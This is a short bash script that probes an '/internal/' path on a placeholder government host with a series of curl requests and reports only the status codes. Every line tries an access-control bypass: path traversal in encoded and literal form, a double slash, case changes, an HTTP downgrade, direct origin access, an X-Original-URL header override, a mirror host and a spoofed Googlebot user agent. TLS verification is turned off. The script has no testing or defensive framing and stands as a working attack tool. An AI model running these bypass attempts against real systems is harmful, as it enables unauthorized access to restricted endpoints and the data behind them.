# The same thing, by one way after the other: $1 is the host's address, $2 stands in every request.
host=stats.gov.example
c() { curl -sSk --max-time 4 -o /dev/null -w '%{http_code}\n' "$@"; }
c "https://$host/internal/$2"
c -I "https://$host/internal/$2"
c -X POST "https://$host/internal/$2"
c "https://$host/public/%2e%2e/internal/$2"
c --path-as-is "https://$host/public/../internal/$2"
c "https://$host//internal/$2"
c "https://$host/INTERNAL/$2"
c "http://$host/internal/$2"
c "https://$1/internal/$2"
c -H 'X-Original-URL: /internal' "https://$host/public/../$2"
c "https://mirror.gov.example/internal/$2"
c -A 'Googlebot/2.1' "https://$host/internal/$2"
